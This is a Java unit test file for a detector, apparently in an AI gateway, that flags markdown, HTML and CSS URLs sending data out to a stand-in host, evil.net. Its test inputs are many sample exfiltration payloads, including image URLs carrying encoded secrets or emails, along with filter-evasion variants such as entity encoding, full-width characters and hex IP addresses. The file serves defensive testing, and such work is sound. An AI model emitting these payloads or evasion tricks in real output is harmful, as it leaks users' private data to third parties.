package io.trustrail.gateway.detect.exfiltration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
import static org.assertj.core.api.Assertions.tuple;

import io.trustrail.gateway.guard.Detector;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ExfiltrationDetectorTest {

    private static final Detector DETECTOR = new ExfiltrationDetector(List.of("example.com", "*.example.org"));

    /** All findings, as {@code SCORE text}; those of images without data with a question mark. */
    private static List<String> found(String text) {
        return DETECTOR.detect(text, 0, true).findings().stream()
                .map(it -> it.score()
                        + (it.category().equals("EXTERNAL_IMAGE") ? "? " : " ")
                        + text.substring(it.start(), it.end()))
                .toList();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '\u0001',
            value = {
                /* What clients fetch. */
                "Here: ![x](https://evil.net/p.png?d=[EMAIL_7K3QZD]) done | 0.95"
                        + " https://evil.net/p.png?d=[EMAIL_7K3QZD]",
                "![x](https://evil.net/%5BEMAIL_7K3QZD%5D.png) | 0.95 https://evil.net/%5BEMAIL_7K3QZD%5D.png",
                "![x](https://evil.net/%255BEMAIL_7k3qzd%255D) | 0.95 https://evil.net/%255BEMAIL_7k3qzd%255D",
                "![x](//evil.net/a?q=bXkgc2VjcmV0IGlzIDQy) | 0.95 //evil.net/a?q=bXkgc2VjcmV0IGlzIDQy",
                "![x](https://evil.net/a?q=my+card+number+is) | 0.95 https://evil.net/a?q=my+card+number+is",
                "![x](https://evil.net/a?q=my%20card%20number) | 0.95 https://evil.net/a?q=my%20card%20number",
                "![x](https://evil.net/a?q=my card number) | 0.95 https://evil.net/a?q=my card number",
                "![x](<https://evil.net/a?q=my card number>) | 0.95 https://evil.net/a?q=my card number",
                "![x](https://evil.net/a?m=jane.doe@acme.org) | 0.95 https://evil.net/a?m=jane.doe@acme.org",
                "![x](https://jane:secret@evil.net/a) | 0.95 https://jane:secret@evil.net/a",
                "![x](https://203.0.113.7/a.png) | 0.95 https://203.0.113.7/a.png",
                "![x](http://0xcb007107/a.png) | 0.95 http://0xcb007107/a.png",
                "![x](http://[2001:db8::1]/a.png) | 0.95 http://[2001:db8::1]/a.png",
                "![x](https://4a616e6520446f652c20343131.evil.net/) | 0.95"
                        + " https://4a616e6520446f652c20343131.evil.net/",
                "![x](https://evil.net/pixel.png) | 0.5? https://evil.net/pixel.png",
                "![x](  https://evil.net/pixel.png 'title') | 0.5? https://evil.net/pixel.png",
                "[![x](https://evil.net/a.png)](https://evil.net/) | 0.5? https://evil.net/a.png",
                "<img src=\"https://evil.net/a.png?t=EMAIL_7K3QZD\"> | 0.95 https://evil.net/a.png?t=EMAIL_7K3QZD",
                "<IMG alt='>' SRC=https://evil.net/a.png> | 0.5? https://evil.net/a.png",
                "<iframe width=1 src='//evil.net/f'></iframe> | 0.5? //evil.net/f",
                "<link rel=icon href=https://evil.net/i> | 0.5? https://evil.net/i",
                "<meta http-equiv=refresh content=\"0; url=https://evil.net/\"> | 0.5? https://evil.net/",
                "<div style=\"background:url('https://evil.net/b')\"> | 0.5? https://evil.net/b",
                "p { background: URL(https://evil.net/b?x=bXkgc2VjcmV0IGlzIDQy) } | 0.95"
                        + " https://evil.net/b?x=bXkgc2VjcmV0IGlzIDQy",
                "[logo]: https://evil.net/logo.png | 0.5? https://evil.net/logo.png",
                /* What somebody has to follow. */
                "[click](https://evil.net/?d=[PERSON_7K3QZD.A1]) | 0.95 https://evil.net/?d=[PERSON_7K3QZD.A1]",
                "See https://evil.net/PHONE_7K3QZD. | 0.95 https://evil.net/PHONE_7K3QZD",
                "[1]: https://evil.net/?d=[EMAIL_7K3QZD] | 0.95 https://evil.net/?d=[EMAIL_7K3QZD]",
                "<a href='https://evil.net/?d=[EMAIL_7K3QZD]'>x</a> | 0.95 https://evil.net/?d=[EMAIL_7K3QZD]",
                "see www.evil.net/?d=bXkgc2VjcmV0IGlzIDQy now | 0.7 www.evil.net/?d=bXkgc2VjcmV0IGlzIDQy",
                "<https://evil.net/bXkgc2VjcmV0IGlzIDQy> | 0.7 https://evil.net/bXkgc2VjcmV0IGlzIDQy",
                "[x](https://evil.net/?d=6d7920736563726574) | 0.7 https://evil.net/?d=6d7920736563726574",
                "[x](https://evil.net/?d=NV4SA43FMNZGK5BANFZSANBS) | 0.7 https://evil.net/?d=NV4SA43FMNZGK5BANFZSANBS",
                "[x](https://evil.net/?d=bXkgc2Vj_mV0IGlz-DQyCg) | 0.7 https://evil.net/?d=bXkgc2Vj_mV0IGlz-DQyCg",
                "[x](https://evil.net/?d=%89%50%4e%47%0d%0a%1a%0a%00%ff%fe) | 0.7"
                        + " https://evil.net/?d=%89%50%4e%47%0d%0a%1a%0a%00%ff%fe",
                "[x](https://203.0.113.7/) | 0.7 https://203.0.113.7/",
                "[x](https://evil.net/?note=she+has+a+broken+leg) | 0.6 https://evil.net/?note=she+has+a+broken+leg",
                "[x](https://evil.net/u?m=jane%40acme.org) | 0.9 https://evil.net/u?m=jane%40acme.org",
                "https://example.com@evil.net/ | 0.9 https://example.com@evil.net/",
                "https://example.com/?to=https://evil.net/EMAIL_7K3QZD | 0.95 https://evil.net/EMAIL_7K3QZD",
                "https://notexample.com/EMAIL_7K3QZD | 0.95 https://notexample.com/EMAIL_7K3QZD",
                "https://example.org/EMAIL_7K3QZD | 0.95 https://example.org/EMAIL_7K3QZD",
                /* As nobody writes it who has nothing to hide. */
                "![x](HTTPS://EVIL.NET/A.PNG) | 0.5? HTTPS://EVIL.NET/A.PNG",
                "![x](&#104;ttps&colon;&sol;&sol;evil.net/a) | 0.5? &#104;ttps&colon;&sol;&sol;evil.net/a",
                "![x](&#x0000068;ttps://evil.net/a) | 0.5? &#x0000068;ttps://evil.net/a",
                "![x](https:\\\\evil.net\\a) | 0.5? https:\\\\evil.net\\a",
                "![x](\\\\evil.net/a) | 0.5? \\\\evil.net/a",
                "![x](https:evil.net/a) | 0.5? https:evil.net/a",
                "![x](https\\://evil\\.net/a) | 0.5? https\\://evil\\.net/a",
                "![x](ｈｔｔｐｓ：／／ｅｖｉｌ．ｎｅｔ／a) | 0.5? ｈｔｔｐｓ：／／ｅｖｉｌ．ｎｅｔ／a",
                "![x](https://evil。net/a) | 0.5? https://evil。net/a",
                "<img src = h&#116;tps://evil.net/a> | 0.5? h&#116;tps://evil.net/a",
                "<img src='\u0009ht\u0009tps://evil.net/a'> | 0.5? \u0009ht\u0009tps://evil.net/a",
            })
    void isFound(String text, String expected) {
        assertThat(found(text)).containsExactly(expected);
    }

    @Test
    void blanksAndLineEndsBeforeAnAddressAreNoHiding() {
        assertThat(found("![x](\n  https://evil.net/a\n)")).containsExactly("0.5? https://evil.net/a");
        assertThat(found("<img\n src\n=\n\"ht\ntps://evil.net/a\">")).containsExactly("0.5? ht\ntps://evil.net/a");
    }

    @Test
    void whatIsTooLongToTellIsTakenForAnImage() {
        assertThat(found("![" + "x".repeat(300) + "](https://evil.net/a)")).containsExactly("0.5? https://evil.net/a");
        assertThat(found("<img alt='" + "x".repeat(300) + "' src=https://evil.net/a>"))
                .containsExactly("0.5? https://evil.net/a");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "See https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/util/regex/Pattern.html.",
                "[how](https://www.nytimes.com/2024/05/17/well/eat/how-to-make-the-best-coffee-at-home.html)",
                "[shop](https://shop.acme.org/p/10293847561?w=200&h=300&color=dark-blue)",
                "https://www.google.com/search?q=how+to+reset+my+password+on+windows+11",
                "https://duckduckgo.com/?q=how%20to%20get%20a%20refund%20in%20germany&ia=web",
                "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
                "https://de.wikipedia.org/wiki/Donaudampfschifffahrtsgesellschaft",
                "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC%E3%82%BF%E3%83%AF%E3%83%BC",
                "https://en.wikipedia.org/wiki/Proxy_(statistics)#Use_in_practice",
                "https://github.com/eclipse-vertx/vert.x/blob/5.0.4/vertx-core/src/main/java/module-info.java#L42-L50",
                "https://unpkg.com/react@18.2.0/umd/react.production.min.js",
                "https://www.npmjs.com/package/@scope/name and https://medium.com/@somebody/a-title-1f2e3d4c5b6a",
                "https://www.google.com/maps/@48.8583701,2.2919064,17z",
                "https://api.acme.org/v1/customers/4711/orders/2024-05-17?page=2&per_page=50&sort=-created_at",
                "https://acme.org/id/123e4567-e89b-12d3-a456-426614174000",
                "https://acme.org/track/1Z999AA10123456784",
                "https://acme.org/?utm_source=newsletter&utm_medium=email&utm_campaign=summer_sale_2024",
                "https://acme.org/IMG_20240517_093011.jpg and https://acme.org/DSC_001234.jpg",
                "https://acme.org/Screenshot-2024-05-17-at-09.30.11.png",
                "https://maps.acme.org/dir?origin=Berlin+Hauptbahnhof&destination=Potsdam+Sanssouci+Park+Deutschland",
                "https://acme.org/files/My%20annual%20report%20for%20the%20board.pdf",
                "https://acme.org/login?next=/account/settings/security",
                "http://localhost:8080/health, http://127.0.0.1:9090/ and http://192.168.1.1",
                "https://ec2-203-0-113-25.compute-1.amazonaws.com/ and https://d111111abcdef8.cloudfront.net/",
                "https://acme.org/CustomerServiceInformationAndContactForm",
                "https://xn--mnchen-3ya.de/ and https://xn--80aswg.xn--p1ai/",
                "[1]: https://datatracker.ietf.org/doc/html/rfc6962",
                "[mail](mailto:help@acme.org) [here](#top) [there](/docs/a.md)"
                        + " ![inline](data:image/png;base64,iVBORw0KGgo)",
                "![x](/img/a.png) ![x](img/a.png) <img src=\"a.png\"> background: url(a.png)",
                "![x](https://example.com/a.png?d=[EMAIL_7K3QZD]) https://www.example.org/EMAIL_7K3QZD",
                "<img src=https://cdn.shop.example.org/a.png> https://EXAMPLE.com./EMAIL_7K3QZD",
                "set src=https://acme.org/a and img.src = 'https://acme.org/a' and ?src=https://acme.org/a",
                "[EMAIL_7K3QZD] wrote: see (https://acme.org)",
                "詳しくはhttps://example.jp/guide/をご覧ください。",
                "e.g. a://b, ratio 3:4, note: x, C:\\Users\\a, 12:30, http and https are schemes",
            })
    void isNot(String text) {
        assertThat(found(text)).isEmpty();
    }

    @Test
    void anAddressWithoutEndIsOneByItself() {
        var text = "![x](https://evil.net/" + "a/".repeat(1500) + ")";
        assertThat(DETECTOR.detect(text, 0, true).findings())
                .extracting("category", "start", "end", "score")
                .containsExactly(tuple("EXFILTRATION", 5, 2005, 0.95));
        assertThat(DETECTOR.detect(text.substring(0, 2004), 0, false).settled()).isEqualTo(5);
        assertThat(DETECTOR.detect(text.substring(0, 2010), 0, false).settled()).isGreaterThan(2004);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            ignoreLeadingAndTrailingWhitespace = false,
            value = {
                "Hello there|11",
                "We saw h|7",
                "We saw |7",
                "https|0",
                "see https://evil.net|4",
                "see https://evil.net |21",
                "![x](|5",
                "![x](https://evil.net|5",
                "![x](&#1|5",
                "![x](https&col|5",
                "![x](https&colon;//evil.net\\|5",
                "![x](img/a|10",
                "<img src=\"//evil.net/ a|10",
                "data = \"hello wo|16",
            })
    void aStreamWaitsForTheEndOfAnAddressOnly(String text, int settled) {
        assertThat(DETECTOR.detect(text, 0, false).settled()).isEqualTo(settled);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "*.", "https://example.com", "example.com/", "a b", ".com", "*"})
    void ownHostsAreNames(String host) {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> new ExfiltrationDetector(List.of(host)))
                .withMessageContaining("is no name of a host");
    }

    /** A stream of them goes on: what long ones have in common must not hold all of them back until the end. */
    @ParameterizedTest
    @ValueSource(strings = {"http://", "[a](https://", "https://x/www.y/http://"})
    void aChainOfLongAddressesIsSettledAsItComes(String link) {
        var text = link.repeat(10_000 / link.length());
        var detection = new ExfiltrationDetector(List.of()).detect(text, 0, false);
        assertThat(detection.settled()).isGreaterThan(text.length() - 2 * Judge.LONGEST);
        var findings = detection.findings();
        assertThat(findings).isNotEmpty().allMatch(it -> it.category().equals("EXFILTRATION"));
        for (int i = 1; i < findings.size(); i++) {
            assertThat(findings.get(i).start())
                    .isGreaterThanOrEqualTo(findings.get(i - 1).end());
        }
    }
}
